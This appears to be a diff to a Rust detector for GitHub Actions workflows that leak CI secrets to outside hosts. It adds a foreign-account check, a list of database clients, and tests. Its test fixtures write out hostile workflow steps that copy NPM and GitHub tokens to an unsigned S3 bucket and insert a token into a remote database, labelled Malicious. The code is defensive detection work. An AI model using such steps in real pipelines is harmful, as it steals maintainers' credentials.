@@ -95,6 +95,12 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
         if !everything && (!misplaced || configures) {
             return None;
         }
+        if misplaced && !greedy && service.name != "github" && !holds_login_of(evidence, &group, service) {
+            // Nothing of the repository's own opens the door there: it is somebody else's account.
+            signals.insert(Signal::ForeignDestination);
+            signals.insert(Signal::UnrelatedSecrets);
+            return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
+        }
         signals.insert(Signal::BelongsThere);
         return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
     }
@@ -199,6 +205,35 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
     Some(Sighting { deliveries: group, signals, ..Sighting::default() })
 }
 
+/// Whether the jobs of a group have a login to a service: a secret of its kind, an action that takes one, an identity token, or a
+/// machine of the owner's own, which may hold anything.
+fn holds_login_of(evidence: &Evidence<'_>, group: &[usize], service: &crate::services::Service) -> bool {
+    let jobs: BTreeSet<usize> =
+        group.iter().filter_map(|at| evidence.delivery(*at)).map(|(delivery, _)| delivery.job).collect();
+    let own = |of: Option<&crate::services::Service>| of.is_some_and(|of| of.name == service.name);
+    jobs.iter().filter_map(|job| evidence.workflow.jobs.get(*job)).any(|job| {
+        let texts = evidence.texts_of(job);
+        // A key that stands in the file (AWS documents these beginnings of its key ids) is not the repository's secret.
+        if texts.iter().any(|text| text.contains("AKIA") || text.contains("ASIA")) {
+            return false;
+        }
+        let named = texts.iter().flat_map(|text| crate::analysis::names_in(text));
+        let hosted = job
+            .runs_on
+            .iter()
+            .any(|label| ["ubuntu", "windows", "macos"].iter().any(|os| label.starts_with(os)));
+        let identity = job.permissions.is_some() || evidence.workflow.permissions.is_some();
+        let actions = job.steps.iter().filter_map(|step| step.uses.as_ref()?.text());
+        !hosted
+            || identity
+            || actions.into_iter().any(|uses| {
+                own(crate::services::of_action(&uses.split('@').next().unwrap_or("").to_ascii_lowercase()))
+            })
+            || named.into_iter().any(|name| own(crate::services::of_secret(&name)))
+            || texts.iter().any(|text| text.contains(&format!("{}_", service.name.to_ascii_uppercase())))
+    })
+}
+
 /// Clients that log in to a machine before they send.
 const SHIPPING: &[&str] = &["ssh", "scp", "sftp", "rsync", "lftp", "ftp", "mosh"];
 
@@ -207,6 +242,21 @@ fn opens_publishing(name: &str) -> bool {
     crate::services::of_secret(name)
         .is_some_and(|service| service.publishes && service.name != "docker-hub" || service.name == "github")
 }
+
+/// Clients that log in to a database.
+const DATABASE_CLIENTS: &[&str] = &[
+    "psql",
+    "pg_dump",
+    "pg_restore",
+    "mysql",
+    "mysqldump",
+    "mariadb",
+    "redis-cli",
+    "mongosh",
+    "mongo",
+    "sqlcmd",
+    "clickhouse-client",
+];
 
 /// Whether it is a token by which a server fetches the code that it runs.
 fn fetches_by_git(name: &str) -> bool {
@@ -266,14 +316,19 @@ fn is_login_only(
     let loud = signals.iter().any(|signal| matches!(signal.weight(), Weight::Greed | Weight::Hiding))
         || signals.contains(&Signal::PlainHttp)
         || signals.contains(&Signal::Masquerade) && signals.contains(&Signal::SinglePurpose);
+    let to_database = group
+        .iter()
+        .filter_map(|at| evidence.delivery(*at))
+        .all(|(delivery, _)| DATABASE_CLIENTS.contains(&delivery.client.as_str()));
     if loud
         || !matches!(place.class, Class::Unknown | Class::FreeHosting)
-        || !one_login(names)
+        || !(one_login(names) || to_database)
         || !carried.iter().all(ordinary)
     {
         return false;
     }
     let host = place.host.as_deref().unwrap_or("");
+    let scheme = if to_database { "database" } else { scheme };
     let pair = is_pair(names);
     let at_home = fits_login(names, host, scheme) || pair && is_own_registry(names, host);
     if !at_home {
@@ -527,6 +582,40 @@ mod tests {
             Verdict::Malicious,
             &["CF_API_TOKEN"],
             "ci.widgets.example",
+        );
+    }
+
+    /// A service that everybody may have an account at, and nothing of the repository's own that opens it.
+    #[test]
+    fn somebody_elses_account_at_a_known_service() {
+        let text = |more: &str| {
+            format!(
+                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n{more}      - run: |\n          echo '${{{{ secrets.NPM_TOKEN }}}} ${{{{ secrets.GH_PAT }}}}' > k\n          aws s3 cp k s3://collector/k --no-sign-request\n"
+            )
+        };
+        let (names, places) = (&["GH_PAT", "NPM_TOKEN"], &["collector.s3.amazonaws.com"]);
+        check("secret-to-host", &text(""), Verdict::Malicious, names, places);
+        let literal = "      - run: aws configure set aws_access_key_id AKIAEXAMPLEEXAMPLE00\n";
+        check("secret-to-host", &text(literal), Verdict::Malicious, names, places);
+        // Near miss: the job logs in with what is the repository's own.
+        let login = "      - uses: aws-actions/configure-aws-credentials@v4\n        with: {role-to-assume: x, aws-region: y}\n";
+        check("secret-to-host", &text(login), Verdict::Suspicious, names, places);
+    }
+
+    /// Near miss: databases of the owner's own are logged in to by hosts that nobody else knows.
+    #[test]
+    fn a_login_to_a_database() {
+        sent(
+            "psql postgresql://app:${{ secrets.PGPASSWORD }}@db.widgets.example/app -c 'select 1'",
+            Verdict::Exposed,
+            &["PGPASSWORD"],
+            "db.widgets.example",
+        );
+        sent(
+            "psql -h db.widgets.example -c \"insert into x values ('${{ secrets.NPM_TOKEN }}')\"",
+            Verdict::Malicious,
+            &["NPM_TOKEN"],
+            "db.widgets.example",
         );
     }
 
